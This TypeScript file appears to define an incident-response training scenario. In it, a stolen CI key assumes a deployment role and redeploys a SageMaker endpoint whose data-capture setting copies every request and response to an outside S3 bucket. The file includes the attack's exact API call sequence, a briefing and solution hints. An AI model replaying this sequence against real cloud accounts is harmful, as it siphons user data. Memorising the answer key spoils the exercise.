import { agents } from '../actors/agents.ts';
import { type AttackStep, stepsBy } from '../actors/attack.ts';
import { asks, routine } from '../actors/benign.ts';
import { siphon } from '../actors/serving.ts';
import { allow, looks, policy, roleArn } from '../cast.ts';
import { accountId } from '../estate-definition.ts';
import type { Scenario } from './scenario.ts';

const attackerIp = '198.51.100.140';
const minute = 60_000;
const endpoint = 'recsys-ranker';
const config = 'recsys-ranker-v13';
/** The session of the deployment role first, then the key that makes such sessions. */
const by = ['session', 'bot-key'] as const;

const step = stepsBy(by);

/** Calls himself as the pipeline does. */
const assume: AttackStep = {
  phase: 'entry',
  afterMs: 20_000,
  call: 'sts:AssumeRole',
  input: { RoleArn: roleArn('ci-deployer'), RoleSessionName: 'github-actions' },
  by: ['bot-key'],
  opens: 'session',
};

/** An endpoint copies what it is asked to a bucket of somebody else, under a session named like the pipeline's. ATT&CK T1078.004, T1550.001, T1567.002. */
export default {
  id: 'endpoint-siphon',
  title: 'Endpoint siphon',
  summary: 'An endpoint was updated in the middle of the day; what it is asked leaves the account.',
  briefing: [
    `PagerDuty · SEV-2 · Data loss prevention: recommendations of ${accountId} (ml-prod) turn up in a bucket that is not ours.`,
    'The release manager says that no deployment was planned today. The pipeline log shows none either.',
    `${endpoint} answers the shop's front page: it must stay up.`,
    'You are OnCall with administrator rights. Find what changed, put it back for good, and leave a timeline.',
  ],
  hints: [
    `What did ${endpoint} serve with an hour ago, and what now? Compare the two endpoint configs.`,
    'Two things call themselves ci-deployer/github-actions. Tell them apart by address, and ask who issued the session.',
    'The session was assumed with the key of deploy-bot. Revoke the sessions alone and he assumes the role again; roll back alone and he updates again; delete the endpoint and he makes it anew.',
    `Deactivate the key of deploy-bot, revoke the sessions of ci-deployer (the pipeline needs a new one too), then roll ${endpoint} back to recsys-ranker-v12.`,
  ],
  playbook: 'endpoint-siphon',
  cast: {
    users: [
      {
        name: 'deploy-bot',
        path: '/ci/',
        inline: { assume: policy(looks, allow('sts:AssumeRole', roleArn('ci-deployer'))) },
        tags: { team: 'ml-platform' },
      },
    ],
    grants: {
      'ci-deployer': { 'blue-green': policy(allow(['sagemaker:CreateEndpoint', 'sagemaker:DeleteEndpointConfig'])) },
    },
  },
  attack: {
    sourceIp: attackerIp,
    disguises: {
      'bot-key': { stolenFrom: 'deploy-bot', userAgent: agents.kaliCli },
      session: { userAgent: agents.oldBoto },
    },
    reentry: [assume],
    steps: [
      { ...step('recon', 2_000, 'sts:GetCallerIdentity'), by: ['bot-key'] },
      { ...step('recon', 6_000, 'sagemaker:ListEndpoints', { MaxResults: 100 }), by: ['bot-key'] },
      assume,
      step('recon', 5_000, 'sts:GetCallerIdentity'),
      step('recon', 12_000, 'sagemaker:DescribeEndpoint', { EndpointName: endpoint }),
      step('recon', 9_000, 'sagemaker:DescribeEndpointConfig', { EndpointConfigName: 'recsys-ranker-v12' }),
      step('recon', 15_000, 'sagemaker:DescribeModel', { ModelName: 'recsys-model-v12' }),
      step('recon', 40_000, 'application-autoscaling:DescribeScalableTargets', { ServiceNamespace: 'sagemaker' }),
      {
        ...step('exfiltration', 60_000, 'sagemaker:CreateEndpointConfig', {
          EndpointConfigName: config,
          ProductionVariants: [
            {
              VariantName: 'AllTraffic',
              ModelName: 'recsys-model-v12',
              InitialInstanceCount: 2,
              InstanceType: 'ml.m5.xlarge',
              InitialVariantWeight: 1,
            },
          ],
          DataCaptureConfig: {
            EnableCapture: true,
            InitialSamplingPercentage: 100,
            DestinationS3Uri: 's3://cdn-telemetry-eu-92ab/recsys',
            CaptureOptions: [{ CaptureMode: 'Input' }, { CaptureMode: 'Output' }],
          },
        }),
        essential: true,
      },
      {
        ...step('exfiltration', 45_000, 'sagemaker:UpdateEndpoint', {
          EndpointName: endpoint,
          EndpointConfigName: config,
        }),
        essential: true,
      },
    ],
    goal: () =>
      siphon({
        endpoint,
        config,
        servesMs: 9 * minute,
        by,
        endings: {
          reached: `For nine minutes ${endpoint} has copied every visitor's history to a bucket outside the account.`,
          stopped: `He can assume the role no more, and ${endpoint} copies nothing to the outside.`,
        },
      }),
    deadlineMs: 30 * minute,
  },
  routines: [
    routine('alice'),
    routine('bob'),
    routine('ci', {
      everyMs: 75_000,
      calls: [
        asks('sts:GetCallerIdentity'),
        asks('sagemaker:DescribeEndpoint', { EndpointName: 'fraud-scorer' }),
        asks('sagemaker:DescribeEndpoint', { EndpointName: endpoint }),
        asks('sagemaker:DescribeEndpointConfig', { EndpointConfigName: 'recsys-ranker-v12' }),
        asks('application-autoscaling:DescribeScalableTargets', { ServiceNamespace: 'sagemaker' }),
      ],
    }),
    routine('ci-batch'),
  ],
  historyCalls: 60,
} satisfies Scenario;
